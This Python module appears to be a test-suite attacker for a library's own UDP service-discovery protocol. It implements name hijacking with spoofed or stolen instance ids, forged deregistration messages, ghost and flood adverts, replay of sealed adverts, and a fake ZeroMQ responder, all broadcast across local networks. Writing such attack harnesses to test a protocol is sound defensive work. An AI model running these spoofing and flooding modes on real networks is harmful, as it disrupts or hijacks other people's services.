"""A classroom attacker, for the benchmark and the tests: a few plain UDP
packets (and one raw ZeroMQ socket), no pgnet, trying to take a name over.

Run inside a test namespace only (it sends to the discovery port of every
machine on its network, for a few seconds at most):

    python -m pgnet.bench.attacker MODE NAME SECONDS [PORT]

MODE is one of:

* ``early``: advertise NAME, claiming an earlier start time, at a fake
  listener that answers every message with ``"fake"``;
* ``steal-id``: the same, with the instance id of the real NAME (read from
  its adverts);
* ``ghost``: one advert for NAME claiming a start time of -1e18, a time to
  live of 60 s and a host that does not exist;
* ``bye``: byes for the real NAME's instance id, 20 a second;
* ``query``: one query for every name; prints how many answers (and
  bytes) came back to it within a second;
* ``flood``: adverts for NAME from 50,000 made-up instance ids;
* ``lobby-ghost``: a two-player lobby entry for the game NAME, id
  ``00000000``, at a dead port, twice a second;
* ``replay``: keeps the real NAME's adverts as they were sent (sealed, if
  the room has a password), listens on its port with a fake listener, and
  answers every query at once with the adverts kept, newest first, then
  with one more of the older ones three times a second.

It prints ``RESULT {json}`` at the end (packets sent, answers heard).

Example:

    ip netns exec pgc-m3 python -m pgnet.bench.attacker early robot 3
"""

import json
import os
import socket
import sys
import threading
import time

import msgpack

MAGIC = b"PGNET1"
PORT = int(os.environ.get("PGNET_DISCOVERY_PORT", 46374))


def _packet(fields):
    return MAGIC + msgpack.packb(fields, use_bin_type=True)


def _advert(name, port, instance, since=None, ttl=2.0, host=None):
    return _packet({"t": "advert", "n": name, "p": port, "h": host,
                    "s": time.time() - 3600 if since is None else since,
                    "i": instance, "m": "attacker", "ttl": ttl})


def _targets():
    """The broadcast address of each network of this machine, and loopback."""
    import ifaddr
    import ipaddress

    found = {"127.255.255.255"}
    for adapter in ifaddr.get_adapters():
        for ip in adapter.ips:
            if isinstance(ip.ip, str) and not ip.ip.startswith("127."):
                net = ipaddress.IPv4Network("%s/%d" % (ip.ip, ip.network_prefix), strict=False)
                found.add(str(net.broadcast_address))
    return sorted(found)


class Sender:
    """A UDP socket that broadcasts to every network of this machine."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        self.sock.bind(("", 0))
        self.targets = _targets()
        self.sent = 0

    def send(self, data):
        for target in self.targets:
            try:
                self.sock.sendto(data, (target, PORT))
                self.sent += 1
            except OSError:
                pass


def _listener():
    """A socket on the discovery port, hearing what the programs send."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind(("", PORT))
    sock.settimeout(0.05)
    return sock


def _parse(data):
    try:
        packet = msgpack.unpackb(data[len(MAGIC):], raw=False, strict_map_key=False)
    except Exception:
        return None
    return packet if isinstance(packet, dict) else None


def sniff_instance(name, timeout=5.0):
    """The instance id in the first advert for ``name`` heard."""
    sock = _listener()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            try:
                data, _ = sock.recvfrom(65536)
            except socket.timeout:
                continue
            packet = _parse(data)
            if packet and packet.get("t") == "advert" and packet.get("n") == name:
                return packet.get("i")
    finally:
        sock.close()
    return None


def fake_listener(port=None):
    """A raw ZeroMQ ROUTER (on ``port``, or a free one) answering every
    request with "fake"; its port."""
    import zmq

    router = zmq.Context.instance().socket(zmq.ROUTER)
    if port is None:
        port = router.bind_to_random_port("tcp://*")
    else:
        router.bind("tcp://*:%d" % port)

    def serve():
        while True:
            frames = router.recv_multipart()
            empty = frames.index(b"", 1)
            router.send_multipart(frames[: empty + 1] + [msgpack.packb("fake")])

    threading.Thread(target=serve, daemon=True).start()
    return port


def replay(name, end, sender):
    """The ``replay`` mode: what it kept and sent."""
    listener = _listener()
    kept, askers, port, resent = [], set(), None, 0
    print("STARTED", flush=True)
    next_resend = time.monotonic()
    while time.monotonic() < end:
        try:
            data, source = listener.recvfrom(65536)
        except socket.timeout:
            data = None
        packet = _parse(data) if data else None
        if packet and packet.get("t") == "advert" and packet.get("n") == name:
            if data not in kept:
                kept.insert(0, data)
                del kept[64:]
                if len(kept) == 1:
                    print("KEPT", flush=True)
            if port is None and isinstance(packet.get("p"), int):
                port = packet["p"]
                fake_listener(port)
        elif packet and packet.get("t") == "query" and kept:
            askers.add(source)
            for old in kept:
                sender.sock.sendto(old, source)
                resent += 1
        if askers and kept and time.monotonic() >= next_resend:
            next_resend = time.monotonic() + 0.3
            old = kept[min(len(kept) - 1, 1 + resent % len(kept))]
            for asker in askers:
                sender.sock.sendto(old, asker)
                resent += 1
    return {"kept": len(kept), "askers": len(askers), "replayed": resent}


def main(mode, name, seconds):
    seconds = min(float(seconds), 30.0)  # bounded, whatever is asked
    sender = Sender()
    result = {"mode": mode}
    end = time.monotonic() + seconds
    if mode in ("early", "steal-id"):
        instance = sniff_instance(name) if mode == "steal-id" else os.urandom(8).hex()
        port = fake_listener()
        while time.monotonic() < end:
            sender.send(_advert(name, port, instance or "0" * 16, since=0.0))
            time.sleep(0.25)
    elif mode == "ghost":
        sender.send(_advert(name, 9, os.urandom(8).hex(), since=-1e18, ttl=60.0,
                            host="10.123.254.254"))
        time.sleep(seconds)
    elif mode == "bye":
        instance = sniff_instance(name)
        while time.monotonic() < end:
            sender.send(_packet({"t": "bye", "n": name, "i": instance or ""}))
            time.sleep(0.05)
    elif mode == "query":
        query = _packet({"t": "query", "n": None, "i": os.urandom(8).hex()})
        sender.send(query)
        sender.sock.settimeout(0.1)
        answers = answer_bytes = 0
        while time.monotonic() < min(end, time.monotonic() + 1.0):
            try:
                data, _ = sender.sock.recvfrom(65536)
            except socket.timeout:
                continue
            answers += 1
            answer_bytes += len(data)
        result.update(query_bytes=len(query) * len(sender.targets), answers=answers,
                      answer_bytes=answer_bytes)
    elif mode == "flood":
        count = 0
        while count < 50_000 and time.monotonic() < end:
            sender.send(_advert(name, 9, os.urandom(8).hex(), ttl=60.0))
            count += 1
            if count % 200 == 0:
                time.sleep(0.01)
        result["adverts"] = count
    elif mode == "lobby-ghost":
        # Adverts twice a second, and an answer to every query (by broadcast
        # and to the asker), as a program would give.
        advert = _advert("%s#00000000 Ghost" % name, 9, "0" * 16)
        listener = _listener()
        sender.send(advert)
        print("STARTED", flush=True)
        next_advert = time.monotonic() + 0.5
        while time.monotonic() < end:
            try:
                data, asker = listener.recvfrom(65536)
                if b"query" in data:
                    sender.send(advert)
                    sender.sock.sendto(advert, asker)
            except socket.timeout:
                pass
            if time.monotonic() >= next_advert:
                next_advert += 0.5
                sender.send(advert)
    elif mode == "replay":
        result.update(replay(name, end, sender))
    else:
        raise SystemExit("unknown mode %r" % mode)
    result["sent"] = sender.sent
    print("RESULT", json.dumps(result), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:4])
